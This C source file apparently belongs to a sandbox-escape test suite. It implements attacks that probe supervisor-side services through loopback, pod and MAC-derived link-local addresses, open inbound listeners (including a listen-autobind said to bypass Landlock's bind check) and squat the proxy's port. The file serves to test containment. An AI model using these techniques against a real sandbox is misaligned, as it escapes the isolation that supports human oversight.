/* tcp_local.c - B1 attacks that stay next to the sandbox: services on the
 * supervisor's side (T05), inbound channels (T12) and squatting the
 * proxy's port (T14). */
#include <arpa/inet.h>
#include <errno.h>
#include <ifaddrs.h>
#include <linux/neighbour.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "attack.h"
#include "tcp_int.h"

#define PROBE_TIMEOUT_MS 1000  /* one supervisor-side port */
#define ACCEPT_TIMEOUT_MS 2500 /* the accomplice dials at once; this bounds a no-show */
#define NETLINK_TIMEOUT_MS 1000
#define HELLO_TIMEOUT_MS 300 /* the accomplice's hello, read after the marker */

/* ---- target lists ---- */

static void targets_add(struct tcp_targets *t, const struct sockaddr *sa, socklen_t len)
{
	for (size_t i = 0; i < t->n; i++)
		if (t->len[i] == len && memcmp(&t->addr[i], sa, len) == 0)
			return;
	if (t->n < TCP_MAX_TARGETS) {
		memcpy(&t->addr[t->n], sa, len);
		t->len[t->n++] = len;
	}
}

static void set_port(struct sockaddr_storage *ss, uint16_t port)
{
	if (ss->ss_family == AF_INET)
		((struct sockaddr_in *)ss)->sin_port = htons(port);
	else
		((struct sockaddr_in6 *)ss)->sin6_port = htons(port);
}

enum addr_kind { ADDR_GLOBAL, ADDR_LINK_LOCAL };

/* Our own non-loopback addresses of one kind (IPv4 counts as global). */
static void own_addresses(struct attack_log *log, enum addr_kind kind, struct tcp_targets *t)
{
	struct ifaddrs *ifa, *i;
	char s[80];
	int r = getifaddrs(&ifa);
	int err = errno;

	attack_step(log, "getifaddrs", r, err, "%s addresses",
		    kind == ADDR_LINK_LOCAL ? "IPv6 link-local" : "non-loopback");
	if (r < 0)
		return;
	for (i = ifa; i; i = i->ifa_next) {
		if (!i->ifa_addr || (i->ifa_flags & IFF_LOOPBACK) || !(i->ifa_flags & IFF_UP))
			continue;
		if (i->ifa_addr->sa_family == AF_INET && kind == ADDR_GLOBAL) {
			targets_add(t, i->ifa_addr, sizeof(struct sockaddr_in));
		} else if (i->ifa_addr->sa_family == AF_INET6) {
			struct sockaddr_in6 a = *(struct sockaddr_in6 *)i->ifa_addr;
			bool ll = IN6_IS_ADDR_LINKLOCAL(&a.sin6_addr);
			if (ll != (kind == ADDR_LINK_LOCAL))
				continue;
			if (ll && !a.sin6_scope_id) /* glibc fills it; be sure */
				a.sin6_scope_id = if_nametoindex(i->ifa_name);
			targets_add(t, (struct sockaddr *)&a, sizeof(a));
		} else {
			continue;
		}
		attack_note(log, "%s has %s", i->ifa_name, tcp_addr_str(i->ifa_addr, s, sizeof(s)));
	}
	freeifaddrs(ifa);
}

void tcp_supervisor_addresses(const struct attack_env *env, struct attack_log *log,
			      struct tcp_targets *t)
{
	struct sockaddr_storage ss;
	socklen_t len;

	if (tcp_proxy_on_loopback(env)) {
		attack_note(log, "the proxy is on loopback: the supervisor shares our netns, so "
				 "our own addresses are its addresses");
		own_addresses(log, ADDR_GLOBAL, t);
		return;
	}
	attack_note(log, "the proxy %s is the supervisor's side of our link", env->proxy_host);
	len = tcp_sockaddr(log, env->proxy_host, 0, &ss);
	if (len)
		targets_add(t, (struct sockaddr *)&ss, len);
}

/* Connect to every target on every pod service port; the marker goes out
 * on each connection that opens (any connection is already the escape). */
static int try_targets(const struct attack_env *env, struct attack_log *log, struct tcp_targets *t,
		       const char *label)
{
	int claim = CLAIM_BLOCKED;

	if (t->n == 0) {
		attack_note(log, "no target discovered: nothing to try");
		return CLAIM_UNSURE;
	}
	for (size_t i = 0; i < t->n; i++) {
		for (size_t p = 0;
		     p < sizeof(tcp_pod_service_ports) / sizeof(*tcp_pod_service_ports); p++) {
			int fd;
			set_port(&t->addr[i], tcp_pod_service_ports[p]);
			fd = tcp_socket(log, t->addr[i].ss_family, SOCK_STREAM, 0);
			if (fd < 0)
				return CLAIM_BLOCKED;
			if (tcp_connect(log, fd, (struct sockaddr *)&t->addr[i], t->len[i],
					PROBE_TIMEOUT_MS) == 0 &&
			    tcp_send_marker(env, log, fd, label) == CLAIM_ESCAPED)
				claim = CLAIM_ESCAPED;
			close(fd);
		}
	}
	return claim;
}

/* ---- T05: services on the supervisor's side ---- */

int t05_loopback(const struct attack_env *env, struct attack_log *log)
{
	struct tcp_targets t = {0};
	struct sockaddr_storage ss;
	socklen_t len;

	if (!tcp_proxy_on_loopback(env))
		attack_note(log,
			    "the proxy is not on loopback: this loopback is the sandbox's own");
	if ((len = tcp_sockaddr(log, "127.0.0.1", 0, &ss)))
		targets_add(&t, (struct sockaddr *)&ss, len);
	if ((len = tcp_sockaddr(log, "::1", 0, &ss)))
		targets_add(&t, (struct sockaddr *)&ss, len);
	return try_targets(env, log, &t, "T05.loopback");
}

int t05_pod_address(const struct attack_env *env, struct attack_log *log)
{
	struct tcp_targets t = {0};
	tcp_supervisor_addresses(env, log, &t);
	return try_targets(env, log, &t, "T05.pod-address");
}

struct neigh {
	int family, ifindex;
	unsigned state;
	unsigned char dst[16];
	unsigned char lladdr[32];
	int lladdr_len;
};

static const char *neigh_state(unsigned s)
{
	if (s & NUD_REACHABLE)
		return "REACHABLE";
	if (s & NUD_STALE)
		return "STALE";
	if (s & NUD_DELAY)
		return "DELAY";
	if (s & NUD_PROBE)
		return "PROBE";
	if (s & NUD_FAILED)
		return "FAILED";
	if (s & NUD_INCOMPLETE)
		return "INCOMPLETE";
	if (s & NUD_PERMANENT)
		return "PERMANENT";
	if (s & NUD_NOARP)
		return "NOARP";
	return "NONE";
}

/* The neighbour table, dumped over NETLINK_ROUTE (seccomp lets protocol 0
 * through). Returns how many entries were read into v, or -1. */
static int neigh_dump(struct attack_log *log, struct neigh *v, int max)
{
	struct {
		struct nlmsghdr nh;
		struct ndmsg nd;
	} req = {
	    .nh = {.nlmsg_len = NLMSG_LENGTH(sizeof(struct ndmsg)),
		   .nlmsg_type = RTM_GETNEIGH,
		   .nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP,
		   .nlmsg_seq = 1},
	    .nd = {.ndm_family = AF_UNSPEC},
	};
	char buf[16384] __attribute__((aligned(NLMSG_ALIGNTO)));
	int fd, n = 0, err;
	long r;
	bool done = false;

	fd = tcp_socket(log, AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
	if (fd < 0)
		return -1;
	tcp_set_timeout(log, fd, SO_RCVTIMEO, NETLINK_TIMEOUT_MS);
	r = send(fd, &req, req.nh.nlmsg_len, 0);
	err = errno;
	attack_step(log, "send", r, err, "RTM_GETNEIGH dump, all families");
	while (r > 0 && !done) {
		r = recv(fd, buf, sizeof(buf), 0);
		err = errno;
		if (r <= 0) {
			attack_step(log, "recv", r, err, "neighbour dump ended early");
			break;
		}
		for (struct nlmsghdr *h = (struct nlmsghdr *)buf; NLMSG_OK(h, (unsigned)r);
		     h = NLMSG_NEXT(h, r)) {
			struct ndmsg *nd = NLMSG_DATA(h);
			int alen;
			if (h->nlmsg_type == NLMSG_DONE || h->nlmsg_type == NLMSG_ERROR) {
				done = true;
				break;
			}
			if (h->nlmsg_type != RTM_NEWNEIGH || n >= max)
				continue;
			memset(&v[n], 0, sizeof(v[n]));
			v[n].family = nd->ndm_family;
			v[n].ifindex = nd->ndm_ifindex;
			v[n].state = nd->ndm_state;
			alen = (int)(h->nlmsg_len - NLMSG_LENGTH(sizeof(*nd)));
			for (struct rtattr *a =
				 (struct rtattr *)((char *)nd + NLMSG_ALIGN(sizeof(*nd)));
			     RTA_OK(a, alen); a = RTA_NEXT(a, alen)) {
				size_t pl = RTA_PAYLOAD(a);
				if (a->rta_type == NDA_DST && pl <= sizeof(v[n].dst))
					memcpy(v[n].dst, RTA_DATA(a), pl);
				else if (a->rta_type == NDA_LLADDR && pl <= sizeof(v[n].lladdr)) {
					memcpy(v[n].lladdr, RTA_DATA(a), pl);
					v[n].lladdr_len = (int)pl;
				}
			}
			n++;
		}
	}
	close(fd);
	return n;
}

/* The link-local address a MAC gives under the kernel's default
 * addr_gen_mode (EUI-64): fe80::(mac0^2)mac1:mac2ff:fe mac3:mac4mac5. */
static void eui64_link_local(const unsigned char mac[6], int ifindex, struct sockaddr_in6 *a)
{
	memset(a, 0, sizeof(*a));
	a->sin6_family = AF_INET6;
	a->sin6_addr.s6_addr[0] = 0xfe;
	a->sin6_addr.s6_addr[1] = 0x80;
	a->sin6_addr.s6_addr[8] = mac[0] ^ 0x02;
	a->sin6_addr.s6_addr[9] = mac[1];
	a->sin6_addr.s6_addr[10] = mac[2];
	a->sin6_addr.s6_addr[11] = 0xff;
	a->sin6_addr.s6_addr[12] = 0xfe;
	a->sin6_addr.s6_addr[13] = mac[3];
	a->sin6_addr.s6_addr[14] = mac[4];
	a->sin6_addr.s6_addr[15] = mac[5];
	a->sin6_scope_id = (uint32_t)ifindex;
}

/* The supervisor's link-local address, seen from a sandbox netns: the
 * peer answers no multicast we may send (no ping socket, no raw socket,
 * TCP refuses multicast), but an allowed connect to the proxy leaves its
 * MAC in our ARP table, and its link-local is derived from that MAC
 * unless the host changed addr_gen_mode. Link-local IPv6 neighbours we
 * already know are taken as they are. */
static void peer_link_local(const struct attack_env *env, struct attack_log *log,
			    struct tcp_targets *t)
{
	struct sockaddr_storage proxy;
	socklen_t plen = tcp_sockaddr(log, env->proxy_host, env->proxy_port, &proxy);
	struct neigh nv[32];
	char s[80];
	int n, fd;

	if (!plen)
		return;
	fd = tcp_socket(log, proxy.ss_family, SOCK_STREAM, 0);
	if (fd >= 0) {
		/* Only to make the kernel resolve the proxy's MAC. */
		tcp_connect(log, fd, (struct sockaddr *)&proxy, plen, PROBE_TIMEOUT_MS);
		close(fd);
	}
	n = neigh_dump(log, nv, (int)(sizeof(nv) / sizeof(nv[0])));
	for (int i = 0; i < n; i++) {
		const struct neigh *e = &nv[i];
		char a[INET6_ADDRSTRLEN] = "?", ifn[IF_NAMESIZE] = "?";
		inet_ntop(e->family, e->dst, a, sizeof(a));
		if_indextoname((unsigned)e->ifindex, ifn);
		attack_note(log, "neighbour %s dev %s lladdr %s%02x:%02x:%02x:%02x:%02x:%02x %s", a,
			    ifn, e->lladdr_len == 6 ? "" : "(none) ", e->lladdr[0], e->lladdr[1],
			    e->lladdr[2], e->lladdr[3], e->lladdr[4], e->lladdr[5],
			    neigh_state(e->state));
		if (e->family == AF_INET6 && e->dst[0] == 0xfe && (e->dst[1] & 0xc0) == 0x80) {
			struct sockaddr_in6 ll = {.sin6_family = AF_INET6,
						  .sin6_scope_id = (uint32_t)e->ifindex};
			memcpy(&ll.sin6_addr, e->dst, 16);
			targets_add(t, (struct sockaddr *)&ll, sizeof(ll));
		} else if (e->family == AF_INET && proxy.ss_family == AF_INET &&
			   memcmp(e->dst, &((struct sockaddr_in *)&proxy)->sin_addr, 4) == 0 &&
			   e->lladdr_len == 6) {
			struct sockaddr_in6 ll;
			eui64_link_local(e->lladdr, e->ifindex, &ll);
			attack_note(log, "the proxy's MAC gives the EUI-64 link-local %s",
				    tcp_addr_str((struct sockaddr *)&ll, s, sizeof(s)));
			targets_add(t, (struct sockaddr *)&ll, sizeof(ll));
		}
	}
}

int t05_link_local(const struct attack_env *env, struct attack_log *log)
{
	struct tcp_targets t = {0};

	if (tcp_proxy_on_loopback(env)) {
		attack_note(log, "the proxy is on loopback: the supervisor shares our netns, so "
				 "our link-local addresses are its addresses");
		own_addresses(log, ADDR_LINK_LOCAL, &t);
	} else {
		peer_link_local(env, log, &t);
	}
	return try_targets(env, log, &t, "T05.link-local");
}

/* ---- inbound: T12, T14 ---- */

/* On a listening socket: ask the lab's accomplice to dial in from wan,
 * accept what arrives (bounded), and send the marker back over it. */
static int serve_accomplice(const struct attack_env *env, struct attack_log *log, int lfd,
			    const char *kind, const char *label)
{
	struct sockaddr_storage ss;
	socklen_t len = sizeof(ss);
	struct pollfd p = {.fd = lfd, .events = POLLIN};
	char s[80], port[8], hello[128];
	int r, err, cfd, claim;
	ssize_t n;

	r = getsockname(lfd, (struct sockaddr *)&ss, &len);
	err = errno;
	attack_step(log, "getsockname", r, err, "%s",
		    r == 0 ? tcp_addr_str((struct sockaddr *)&ss, s, sizeof(s)) : "");
	if (r < 0)
		return CLAIM_UNSURE;
	snprintf(port, sizeof(port), "%u",
		 ntohs(ss.ss_family == AF_INET ? ((struct sockaddr_in *)&ss)->sin_port
					       : ((struct sockaddr_in6 *)&ss)->sin6_port));
	attack_request_accomplice(log, kind, port);
	attack_note(log, "asked the accomplice to dial %s %s from wan", kind, port);
	r = poll(&p, 1, ACCEPT_TIMEOUT_MS);
	err = errno;
	attack_step(log, "poll", r, err, "POLLIN on the listener, %d ms%s", ACCEPT_TIMEOUT_MS,
		    r == 0 ? ": nobody came" : "");
	if (r <= 0)
		return CLAIM_BLOCKED;
	len = sizeof(ss);
	cfd = accept4(lfd, (struct sockaddr *)&ss, &len, SOCK_CLOEXEC);
	err = errno;
	attack_step(log, "accept4", cfd, err, "from %s",
		    cfd >= 0 ? tcp_addr_str((struct sockaddr *)&ss, s, sizeof(s)) : "?");
	if (cfd < 0)
		return CLAIM_BLOCKED;
	claim = tcp_send_marker(env, log, cfd, label);
	tcp_set_timeout(log, cfd, SO_RCVTIMEO, HELLO_TIMEOUT_MS);
	n = recv(cfd, hello, sizeof(hello) - 1, 0);
	err = errno;
	if (n > 0)
		hello[strcspn(hello, "\r\n")] = 0;
	attack_step(log, "recv", n, err, "%.*s", n > 0 ? (int)n : 0, n > 0 ? hello : "");
	close(cfd);
	return claim;
}

static int listen_logged(struct attack_log *log, int fd)
{
	int r = listen(fd, 4);
	int err = errno;
	attack_step(log, "listen", r, err, "backlog 4");
	return r;
}

/* listen() on an unbound socket picks an ephemeral port (inet_autobind)
 * without the socket_bind hook: BIND_TCP never sees it (landlock#15). */
static int autobind(const struct attack_env *env, struct attack_log *log, int family,
		    const char *kind, const char *label)
{
	int fd = tcp_socket(log, family, SOCK_STREAM, 0);
	int claim;

	if (fd < 0)
		return CLAIM_BLOCKED;
	if (listen_logged(log, fd) < 0) {
		close(fd);
		return CLAIM_BLOCKED;
	}
	claim = serve_accomplice(env, log, fd, kind, label);
	close(fd);
	return claim;
}

int t12_autobind(const struct attack_env *env, struct attack_log *log)
{
	return autobind(env, log, AF_INET, "tcp", "T12.autobind");
}

int t12_autobind_v6(const struct attack_env *env, struct attack_log *log)
{
	return autobind(env, log, AF_INET6, "tcp6", "T12.autobind-v6");
}

static int bind_logged(struct attack_log *log, int fd, const struct sockaddr *sa, socklen_t len)
{
	char s[80];
	int r = bind(fd, sa, len);
	int err = errno;
	attack_step(log, "bind", r, err, "%s", tcp_addr_str(sa, s, sizeof(s)));
	errno = err;
	return r;
}

int t12_bind(const struct attack_env *env, struct attack_log *log)
{
	struct sockaddr_storage ss;
	socklen_t len = tcp_sockaddr(log, "0.0.0.0", 4444, &ss);
	int fd = tcp_socket(log, AF_INET, SOCK_STREAM, 0);
	int claim;

	if (fd < 0 || !len) {
		if (fd >= 0)
			close(fd);
		return CLAIM_BLOCKED;
	}
	tcp_setsockopt_int(log, fd, SOL_SOCKET, SO_REUSEADDR, "SO_REUSEADDR", 1);
	if (bind_logged(log, fd, (struct sockaddr *)&ss, len) < 0 || listen_logged(log, fd) < 0) {
		close(fd);
		return CLAIM_BLOCKED;
	}
	claim = serve_accomplice(env, log, fd, "tcp", "T12.bind");
	close(fd);
	return claim;
}

/* Listen on the proxy's port where the outside can reach it: the
 * wildcard first; where the proxy already holds its loopback address
 * (EADDRINUSE), each of our own addresses. A client that dials the pod on
 * the proxy's port (or a rule that trusts the port) now talks to us. */
int t14_squat_proxy_port(const struct attack_env *env, struct attack_log *log)
{
	struct tcp_targets t = {0};
	struct sockaddr_storage any;
	socklen_t len = tcp_sockaddr(log, "0.0.0.0", 0, &any);
	int fd = -1, claim;

	if (len)
		targets_add(&t, (struct sockaddr *)&any, len);
	own_addresses(log, ADDR_GLOBAL, &t);
	for (size_t i = 0; i < t.n && fd < 0; i++) {
		if (t.addr[i].ss_family != AF_INET)
			continue; /* the accomplice dials the pod's IPv4 address */
		set_port(&t.addr[i], env->proxy_port);
		fd = tcp_socket(log, AF_INET, SOCK_STREAM, 0);
		if (fd < 0)
			return CLAIM_BLOCKED;
		if (bind_logged(log, fd, (struct sockaddr *)&t.addr[i], t.len[i]) < 0) {
			close(fd);
			fd = -1;
		}
	}
	if (fd < 0)
		return CLAIM_BLOCKED;
	if (listen_logged(log, fd) < 0) {
		close(fd);
		return CLAIM_BLOCKED;
	}
	claim = serve_accomplice(env, log, fd, "tcp", "T14");
	close(fd);
	return claim;
}
